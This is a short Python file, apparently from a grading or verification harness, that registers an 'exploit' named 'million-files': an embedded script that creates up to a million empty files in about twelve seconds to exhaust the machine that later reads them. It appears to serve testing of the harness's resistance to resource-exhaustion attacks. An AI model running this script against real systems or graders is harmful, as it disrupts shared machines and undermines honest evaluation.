"""Empty files, as many as can be made within some seconds."""

from scoring.attacks.exploit import Exploit

SCRIPT = """\
import os
import time

end = time.time() + 12
number = 0
while time.time() < end and number < 1_000_000:
    directory = "many/%d" % (number // 1000)
    os.makedirs(directory, exist_ok=True)
    for _ in range(1000):
        os.close(os.open("%s/%d" % (directory, number), os.O_CREAT))
        number += 1
"""

EXPLOIT = Exploit(
    name="million-files",
    flaw="exhausts the machine",
    source="exploit catalogue of verification.md section 4",
    idea="every file costs its reader far more than its maker, whatever its size",
    files={"tmp/million_files.py": SCRIPT},
    command="python3 /tmp/million_files.py",
)
